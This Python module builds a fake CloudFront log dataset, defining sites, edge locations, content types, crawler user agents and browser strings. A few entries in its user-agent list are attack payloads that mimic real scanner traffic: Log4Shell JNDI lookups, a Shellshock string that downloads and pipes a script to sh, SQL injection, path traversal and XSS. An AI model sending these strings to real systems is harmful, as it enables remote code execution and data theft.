"""What the demo's world is made of: sites, edges, user agents and the viewers who send them.

The data is invented, its shape is that of real logs: a few browsers make most of the traffic, a quarter of it
comes from bots, a few viewers are far busier than the rest, and some user agents are URL-encoded twice.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product
from typing import Final

FIELDS_33: Final = (
    "date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) "
    "cs-uri-query cs(Cookie) x-edge-result-type x-edge-request-id x-host-header cs-protocol cs-bytes time-taken "
    "x-forwarded-for ssl-protocol ssl-cipher x-edge-response-result-type cs-protocol-version fle-status "
    "fle-encrypted-fields c-port time-to-first-byte x-edge-detailed-result-type sc-content-type sc-content-len "
    "sc-range-start sc-range-end"
)
FIELDS_24: Final = " ".join(FIELDS_33.split()[:24])  # the header of 2016, which many archives still hold


@dataclass(frozen=True, slots=True)
class Site:
    """One distribution: its id, its two host names, how much of people's and of bots' traffic it gets."""

    distribution: str
    domain: str
    host: str
    share: float
    bot_share: float
    kinds: tuple[str, ...]


SITES: Final = (
    Site("E2QWRUHAPOMQZL", "d2hxq3mnc1l8vk.cloudfront.net", "www.example.com", 0.34, 0.66, ("html", "json", "jpg")),
    Site("EDFDVBD6ZK4QTN", "d111abcdef8q3w.cloudfront.net", "static.example.com", 0.36, 0.12, ("css", "js", "jpg")),
    Site("E1PA6795UKMFR9", "d3k7wvb2p0zsmt.cloudfront.net", "video.example.com", 0.18, 0.04, ("m4s", "jpg")),
    Site("E3BTLQ5HZ8CXNA", "d1yf5o9rj4g6ud.cloudfront.net", "api.example.com", 0.12, 0.18, ("json", "zip")),
)

# extension -> content type, median bytes, spread (sigma of the logarithm), relative weight
CONTENT: Final = {
    "html": ("text/html%3B%20charset=utf-8", 24_000, 0.9, 5.0),
    "css": ("text/css", 18_000, 0.8, 2.0),
    "js": ("application/javascript", 62_000, 1.1, 3.0),
    "jpg": ("image/jpeg", 48_000, 1.0, 4.0),
    "json": ("application/json", 2_400, 1.0, 4.0),
    "m4s": ("video/iso.segment", 1_300_000, 0.7, 6.0),
    "zip": ("application/zip", 1_600_000, 1.0, 0.2),
}

# edge location -> relative weight; two of them are in the form of the years before suffixes
EDGES: Final = {
    "IAD89-C1": 11.0, "FRA56-P4": 10.0, "LHR61-C2": 8.5, "SEA19-C2": 7.0, "NRT57-P3": 6.5, "SIN2-C1": 6.0,
    "CDG52-P1": 5.5, "DFW57-P5": 5.0, "LAX50-C3": 5.0, "BOM78-P4": 4.5, "AMS58-P2": 4.0, "GRU3-P2": 4.0,
    "SYD62-P1": 3.5, "ORD58-P6": 3.5, "MAD53-P1": 3.0, "ICN57-P2": 2.5, "HKG60-P1": 2.5, "YTO50-C1": 2.0,
    "ARN56-P1": 2.0, "HEL51-P6": 1.5, "MSP50-P1": 1.5, "WAW51-P2": 1.5, "JNB51-C1": 1.0, "SCL51-C1": 0.8,
    "DUB2": 0.6, "VIE6": 0.4,
}  # fmt: skip


@dataclass(frozen=True, slots=True)
class Robot:
    """One kind of automatic client: what it sends, its share of the bots' traffic, how many addresses, and where."""

    agent: str
    share: float
    addresses: int
    network: str


def _google(product_token: str) -> str:
    return (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; "
        f"{product_token}; +http://www.google.com/bot.html) Chrome/138.0.7204.183 Safari/537.36"
    )


def _compatible(token: str) -> str:
    return f"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; {token}"


ROBOTS: Final = (
    Robot(_google("Googlebot/2.1"), 14.0, 40, "66.249"),
    Robot("Googlebot-Image/1.0", 3.0, 12, "66.249"),
    Robot(_compatible("bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0 Safari/537.36"), 9.0, 30, "40.77"),
    Robot("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", 3.0, 14, "5.255"),
    Robot("Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", 2.5, 14, "180.76"),
    Robot("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", 1.0, 5, "20.191"),
    Robot("Mozilla/5.0 (compatible; SeznamBot/4.0; +http://napoveda.seznam.cz/seznambot-intro/)", 0.7, 4, "77.75"),
    Robot(_compatible("GPTBot/1.2; +https://openai.com/gptbot)"), 8.0, 18, "20.171"),
    Robot(_compatible("OAI-SearchBot/1.0; +https://openai.com/searchbot"), 2.5, 8, "51.8"),
    Robot(_compatible("ChatGPT-User/1.0; +https://openai.com/bot"), 3.0, 25, "23.98"),
    Robot(_compatible("ClaudeBot/1.0; +claudebot@anthropic.com)"), 7.0, 12, "216.73"),
    Robot(_compatible("PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)"), 3.0, 8, "18.97"),
    Robot("CCBot/2.0 (https://commoncrawl.org/faq/)", 2.0, 4, "3.224"),
    Robot("Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
          "(compatible; Bytespider; spider-feedback@bytedance.com)", 5.0, 30, "47.128"),
    Robot("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/600.2.5 (KHTML, like Gecko) Version/8.0.2 "
          "Safari/600.2.5 (Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot)", 3.0, 12, "52.70"),
    Robot("meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
          3.5, 20, "57.141"),
    Robot("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", 2.0, 16, "173.252"),
    Robot("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 "
          "Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", 2.0, 8, "17.241"),
    Robot("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 4.0, 16, "54.36"),
    Robot("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", 3.5, 10, "185.191"),
    Robot("Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", 1.5, 14, "144.76"),
    Robot("Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot)", 1.0, 4, "216.244"),
    Robot("Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)", 1.5, 10, "114.119"),
    Robot("Twitterbot/1.0", 0.5, 4, "199.16"),
    Robot("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", 0.4, 5, "3.94"),
    Robot("LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)", 0.4, 3, "108.174"),
    Robot("Feedly/1.0 (+http://www.feedly.com/fetcher.html; like FeedFetcher-Google)", 0.8, 3, "8.29"),
    Robot("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", 4.0, 10, "69.162"),
    Robot("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", 2.5, 8, "185.39"),
    Robot("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0.0.0 Safari/537.36 "
          "PTST/240104.213742", 0.4, 2, "34.214"),
    Robot("Amazon-Route53-Health-Check-Service (ref 3f1c2a7e-9d0b-4c55-a1a6-6e3d0f1b7c21; report http://amzn.to/1vsZADi)",
          3.0, 16, "54.228"),
    Robot("StatusCake_Pagespeed_Indev", 0.3, 2, "178.62"),
    Robot("kube-probe/1.31", 0.4, 3, "35.180"),
    Robot("curl/8.5.0", 2.5, 90, "88"),
    Robot("curl/7.88.1", 1.0, 50, "91"),
    Robot("Wget/1.21.4", 0.5, 20, "93"),
    Robot("python-requests/2.32.3", 3.0, 90, "52"),
    Robot("python-requests/2.28.1", 0.8, 30, "13"),
    Robot("Python/3.11 aiohttp/3.9.5", 0.8, 15, "35"),
    Robot("python-httpx/0.27.0", 0.4, 10, "44"),
    Robot("Go-http-client/1.1", 1.5, 60, "104"),
    Robot("Go-http-client/2.0", 1.5, 60, "34"),
    Robot("okhttp/4.12.0", 2.0, 120, "49"),
    Robot("Apache-HttpClient/4.5.14 (Java/17.0.11)", 0.7, 15, "18"),
    Robot("Java/1.8.0_412", 0.3, 10, "18"),
    Robot("axios/1.7.4", 0.6, 18, "3"),
    Robot("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", 0.4, 12, "3"),
    Robot("Dart/3.4 (dart:io)", 0.9, 80, "78"),
    Robot("Scrapy/2.11.2 (+https://scrapy.org)", 1.6, 3, "95"),
    Robot("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.6367.78 "
          "Safari/537.36", 1.6, 24, "65"),
    Robot("${jndi:ldap://198.51.100.23:1389/Basic/Command/Base64/dG91Y2g=}", 0.25, 6, "45"),
    Robot("${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.9/a}", 0.1, 3, "45"),
    Robot("Mozilla/5.0' OR 1=1; DROP TABLE users; --", 0.15, 4, "193"),
    Robot("' UNION SELECT username,password FROM users-- ", 0.1, 3, "193"),
    Robot("() { :; }; /bin/bash -c 'wget http://203.0.113.66/x.sh -O- | sh'", 0.1, 4, "194"),
    Robot("../../../../../../etc/passwd", 0.08, 2, "194"),
    Robot("<script>alert(document.cookie)</script>", 0.06, 2, "194"),
    Robot("sqlmap/1.8.4#stable (https://sqlmap.org)", 0.3, 2, "193"),
    Robot("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", 0.3, 1, "193"),
    Robot("Mozilla/5.0 zgrab/0.x", 0.4, 10, "162"),
    Robot("Mozilla/5.0 (compatible; 百度爬虫/1.0; +http://example.cn/蜘蛛)", 0.1, 2, "180"),
)  # fmt: skip

SCRAPER: Final = Robot("python-requests/2.31.0", 0.0, 1, "198.51.100.77")  # its burst is the spike in the plot


def browsers() -> tuple[str, ...]:
    """The user agents of people, the most frequent first: a few hundred."""
    return tuple(_chrome()) + tuple(_safari()) + tuple(_firefox()) + tuple(_others())


def _chrome() -> Iterator[str]:
    desktops = ("Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64")
    for version, platform in product(range(140, 116, -1), desktops):
        engine = f"Mozilla/5.0 ({platform}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 Safari/537.36"
        yield engine
        if version % 4 == 0:
            yield f"{engine} Edg/{version}.0.0.0"
    for version, phone in product(range(140, 126, -2), ("K", "Pixel 8", "SM-S921B", "SM-A546B", "M2101K6G")):
        android = 10 if phone == "K" else 14
        yield (
            f"Mozilla/5.0 (Linux; Android {android}; {phone}) AppleWebKit/537.36 (KHTML, like Gecko) "
            f"Chrome/{version}.0.0.0 Mobile Safari/537.36"
        )


def _safari() -> Iterator[str]:
    for version in ("17_6", "18_5", "17_4", "18_1", "16_6", "17_2", "18_3", "16_3", "15_8"):
        number = version.replace("_", ".")
        for device in ("iPhone; CPU iPhone OS", "iPad; CPU OS"):
            yield (
                f"Mozilla/5.0 ({device} {version} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                f"Version/{number} Mobile/15E148 Safari/604.1"
            )
        yield (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
            f"Version/{number} Safari/605.1.15"
        )


def _firefox() -> Iterator[str]:
    for version in range(141, 114, -3):
        for platform in ("Windows NT 10.0; Win64; x64", "X11; Linux x86_64", "Macintosh; Intel Mac OS X 10.15"):
            yield f"Mozilla/5.0 ({platform}; rv:{version}.0) Gecko/20100101 Firefox/{version}.0"


def _others() -> Iterator[str]:
    for version in range(26, 20, -1):
        yield (
            "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-G991B) AppleWebKit/537.36 (KHTML, like Gecko) "
            f"SamsungBrowser/{version}.0 Chrome/115.0.0.0 Mobile Safari/537.36"
        )
    for model in ("AFTKA", "BRAVIA 4K VH2", "Chromecast"):
        yield (
            f"Mozilla/5.0 (Linux; Android 11; {model}) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/110.0.5481.154 Safari/537.36"
        )
    yield "AppleCoreMedia/1.0.0.21G93 (iPhone; U; CPU OS 17_6_1 like Mac OS X; en_us)"
    yield "ExampleShop/5.2.1 (iPhone; iOS 17.6; Scale/3.00)"


def encode(text: str, times: int = 1) -> str:
    """Write a user agent as CloudFront does: URL-encoded, sometimes a second time."""
    for _ in range(times):
        text = "".join(_encoded(character) for character in text)
    return text


def _encoded(character: str) -> str:
    if "!" <= character < "\x7f" and character not in "<>\"#%{}|\\^~[]`'":
        return character
    return "".join(f"%{byte:02X}" for byte in character.encode())
